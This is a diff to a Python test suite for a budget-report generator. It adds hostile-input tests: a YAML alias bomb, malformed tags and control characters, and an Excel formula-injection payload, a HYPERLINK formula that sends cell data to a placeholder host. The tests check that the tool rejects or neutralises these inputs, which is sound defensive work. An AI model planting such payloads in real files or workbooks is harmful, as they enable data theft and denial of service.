@@ -12,7 +12,7 @@ import json
 import zipfile
 from pathlib import Path
 
-from hostile.harness import (HAIYUAN, LIESHAN, Case, Outcome, Outcomes, Plan, Run, build, copy_example, headings,
+from hostile.harness import (EXAMPLES, HAIYUAN, LIESHAN, Case, Outcome, Outcomes, Plan, Run, build, copy_example, headings,
                              markdown, written)
 
 REASON = "  收支总计: 上级追加基本公共卫生服务补助资金，医疗收入增加"
@@ -144,3 +144,75 @@ def _command_line() -> list[Case]:
 
 
 CASES = [*_structure(), *_markup(), *_command_line()]
+
+
+# The commands added since the issue was filed: next-year and import (--into) read data files too.
+
+def later_command(name: str, kind: str, edits, says: str, command: str) -> Case:
+    """A hostile data file given to `next-year` or to `import --into`: exit 1 naming it, no file written."""
+    def prepare(folder: Path) -> Plan:
+        path = copy_example(HAIYUAN, folder / "in", edits)
+        out = folder / "out" / "next.yaml"
+        if command == "next-year":
+            argv = ["next-year", str(path), "-o", str(out)]
+        else:
+            workbook = EXAMPLES / "渠县城乡居民社会养老保险管理局-2023-公开表.xlsx"
+            argv = ["import", str(workbook), "--into", str(path), "-o", str(out)]
+
+        def verify(o: Outcomes) -> None:
+            got = o["run"]
+            assert isinstance(got, Outcome) and got.code == 1, f"exit {got.code}\n{got.text[-2000:]}"
+            assert str(path) in got.text and says in got.text, got.text[-2000:]
+            assert not out.exists()
+
+        return Plan({"run": Run(argv, folder)}, verify)
+
+    return Case(name, kind, prepare)
+
+
+def _later_commands() -> list[Case]:
+    laughs = [("文档类型: 部门决算\n", "文档类型: 部门决算\n说明x: " + _LAUGHS)]
+    negative = [("  收支总计: 772.10", "  收支总计: -772.10")]
+    tag = [("  收支总计: 772.10", "  收支总计: !unit 772.10")]
+    control = [("  名称: 海原县高崖乡卫生院\n", '  名称: "海原县\\e卫生院"\n')]
+    # import --into only rewrites figures (check then validates the file); next-year checks it first.
+    return [later_command("next-year-negative-prior-year", "numbers", negative, "金额不能为负数", "next-year"),
+            *(later_command(f"{command}-{what}", kind, edits, says, command)
+              for command in ("next-year", "import-into")
+              for what, kind, edits, says in (("alias-bomb", "bounds", laughs, "数据项"),
+                                              ("unknown-tag", "crashes", tag, "标签"),
+                                              ("escape-in-name", "crashes", control, "控制字符")))]
+
+
+_LAUGHS = "&a [" + ", ".join(["x"] * 9) + "]\n" + "".join(
+    f"说明{i}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(9))
+
+
+def _formula_injection() -> list[Case]:
+    """Text typed "=…" is text in every workbook reportgen writes, never a formula Excel would run."""
+    payload = '=HYPERLINK("http://example.invalid/?"&A1,"点此")'
+
+    def prepare(folder: Path) -> Plan:
+        path = copy_example(HAIYUAN, folder / "in", [(REASON, _reason(payload)),
+                                                      ("\n国有资产:", '\n科目名称:\n  "2100302": ' + json.dumps(payload)
+                                                       + "\n\n国有资产:")])
+        runs = {"workbook": Run(["workbook", str(path), "-o", str(folder / "out" / "填报.xlsx")], folder),
+                "posted": Run(["build", str(path), "-o", str(folder / "out"), "-f", "xlsx"], folder)}
+
+        def verify(o: Outcomes) -> None:
+            for label in runs:
+                got = o[label]
+                assert isinstance(got, Outcome) and got.code == 0, f"{label}: exit {got.code}\n{got.text[-2000:]}"
+            books = [p for p in written(folder) if p.suffix == ".xlsx"]
+            assert len(books) == 2, books
+            for book in books:
+                with zipfile.ZipFile(book) as z:
+                    sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+                assert not any(b"<f>" in s or b"<f " in s for s in sheets), book.name
+
+        return Plan(runs, verify)
+
+    return [Case("formula-injection-in-workbooks", "text", prepare)]
+
+
+CASES += [*_later_commands(), *_formula_injection()]
